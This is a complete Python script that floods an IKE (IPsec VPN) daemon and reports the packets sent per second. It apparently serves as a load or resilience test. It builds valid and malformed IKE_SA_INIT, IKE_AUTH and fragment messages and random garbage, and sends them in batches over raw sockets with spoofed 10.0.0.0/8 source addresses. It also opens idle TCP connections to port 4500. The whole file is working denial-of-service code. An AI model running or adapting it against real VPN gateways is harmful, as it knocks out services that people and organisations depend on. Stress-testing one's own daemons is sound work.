#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Attack an IKE daemon, and say how much was sent.

    ike_flood.py KIND FROM TO SECONDS [RATE]

init      IKE_SA_INIT as it should be, from ever new addresses
refused   the same, with algorithms that nobody has
auth      IKE_AUTH for SPIs that there are not
fragment  first fragments of such messages
known     fragments and IKE_AUTH that are not authentic, for an IKE SA that the
          sender has begun under its own address
garbage   octets, most of them behind a header that looks like IKE's
tcp       connections to TCP port 4500 that say nothing

RATE is the number a second (10000), of connections 500. All but the last two
are of the network 10.0.0.0/8 when FROM is "any".
"""

import ctypes
import os
import random
import socket
import struct
import sys
import time

IKE_SA_INIT, IKE_AUTH = 34, 35
SA, KE, NONCE, NOTIFY, SK, SKF = 33, 34, 40, 41, 46, 53
COOKIE = 16390
INITIATOR = 0x08
BURST = 32
LIBC = ctypes.CDLL(None)


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def transform(more, kind, number, attribute=b""):
    return struct.pack("!BBHBBH", more, 0, 8 + len(attribute), kind, 0,
                       number) + attribute


def message(spi_i, spi_r, first, exchange, body, flags=INITIATOR, number=0):
    return struct.pack("!8s8sBBBBII", spi_i, spi_r, first, 0x20, exchange,
                       flags, number, 28 + len(body)) + body


def sa_init(encryption, spi, nonce, cookie=b""):
    """AES-CBC-128, HMAC-SHA2-256, Curve25519; or another encryption."""
    transforms = (transform(3, 1, encryption, struct.pack("!HH", 0x800e, 128))
                  + transform(3, 2, 5) + transform(3, 3, 12)
                  + transform(0, 4, 31))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0,
                           4) + transforms
    body = (payload(KE, proposal)
            + payload(NONCE, struct.pack("!HH", 31, 0) + b"\x09" + bytes(31))
            + payload(0, nonce))
    if cookie:
        notify = struct.pack("!BBH", 0, 0, COOKIE) + cookie
        body = payload(SA, notify) + body
    return message(spi, bytes(8), NOTIFY if cookie else SA, IKE_SA_INIT, body)


def half_open(source, target):
    """An IKE SA that goes no further: its SPIs."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((source, 0))
    sock.settimeout(5)
    spi, nonce, cookie = os.urandom(8), os.urandom(32), b""
    for _ in range(2):
        sock.sendto(sa_init(12, spi, nonce, cookie), (target, 500))
        answer = sock.recv(4096)
        if answer[8:16] != bytes(8):
            return spi, answer[8:16]
        cookie = answer[28 + 8:]
    sys.exit("the cookie is not taken")


def sealed(spi_i, spi_r, following):
    number = 1 if following == SKF else 0
    start = struct.pack("!HH", 1, 2) if number else b""
    return message(spi_i, spi_r, following, IKE_AUTH,
                   payload(0, start + os.urandom(random.randrange(17, 900))),
                   number=1)


def garbage():
    octets = bytearray(os.urandom(random.randrange(1, 700)))
    if len(octets) > 28 and random.random() < 0.8:
        octets[17] = 0x20
        octets[18] = random.randrange(34, 39)
        octets[24:28] = struct.pack("!I", len(octets))
    return bytes(octets)


def maker(kind, source, target):
    spis = half_open(source, target) if kind == "known" else None
    return {
        "init": lambda: sa_init(12, os.urandom(8), os.urandom(32)),
        "refused": lambda: sa_init(999, os.urandom(8), os.urandom(32)),
        "auth": lambda: sealed(os.urandom(8), os.urandom(8), SK),
        "fragment": lambda: sealed(os.urandom(8), os.urandom(8), SKF),
        "known": lambda: sealed(*spis, random.choice((SK, SKF))),
        "garbage": garbage,
    }[kind]


def datagram(source, octets):
    """With headers of UDP and IPv4, whose checksum is the kernel's to fill."""
    if source == "any":
        source = b"\x0a" + os.urandom(3)
    else:
        source = socket.inet_aton(source)
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), 500,
                      8 + len(octets), 0) + octets
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17,
                       0, source, socket.inet_aton(sys.argv[3])) + udp


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class Mmsghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint),
                ("iov", ctypes.POINTER(Iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("sent", ctypes.c_uint)]


def paced(seconds, rate, send):
    """Call it that often, by what it says was sent; what was, and a second."""
    begin = time.monotonic()
    done = 0
    while (now := time.monotonic() - begin) < seconds:
        if done > now * rate:
            time.sleep(0.001)
            continue
        done += send()
    return done, done / now


def flood(kind, source, target, seconds, rate):
    # What is sent is made before, and many go with one call, so that the rate
    # is what the network can do.
    make = maker(kind, source, target)
    ready = [bytearray(datagram(source, make())) for _ in range(128 * BURST)]
    vectors = (Iovec * len(ready))()
    messages = (Mmsghdr * len(ready))()
    for octets, vector, message in zip(ready, vectors, messages):
        vector.base = ctypes.addressof(
            ctypes.c_char.from_buffer(octets))
        vector.len = len(octets)
        message.iov = ctypes.pointer(vector)
        message.iovlen = 1
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.connect((target, 0))
    at = 0

    def send():
        nonlocal at
        first = at % len(ready)
        if kind in ("init", "refused") and at >= len(ready):
            for octets in ready[first:first + BURST]:
                octets[28:32] = struct.pack("!I", at)
        at += BURST
        return max(0, LIBC.sendmmsg(sock.fileno(), ctypes.byref(
            messages, first * ctypes.sizeof(Mmsghdr)), BURST, 0))

    return paced(seconds, rate, send)


def connections(source, target, seconds, rate):
    socks = []

    def connect():
        sock = socket.socket()
        sock.setblocking(False)
        try:
            sock.bind((source, 0))
        except OSError:
            return 0
        sock.connect_ex((target, 4500))
        socks.append(sock)
        if len(socks) > 600:
            socks.pop(0).close()
        return 1

    return paced(seconds, rate, connect)


def main():
    kind, source, target, seconds = *sys.argv[1:4], float(sys.argv[4])
    rate = int(sys.argv[5]) if len(sys.argv) > 5 else 0
    if kind == "tcp":
        done, reached = connections(source, target, seconds, rate or 500)
    else:
        done, reached = flood(kind, source, target, seconds, rate or 10000)
    print(f"{kind}: {done} in {seconds:.1f} s, {reached:.0f} a second",
          flush=True)


main()
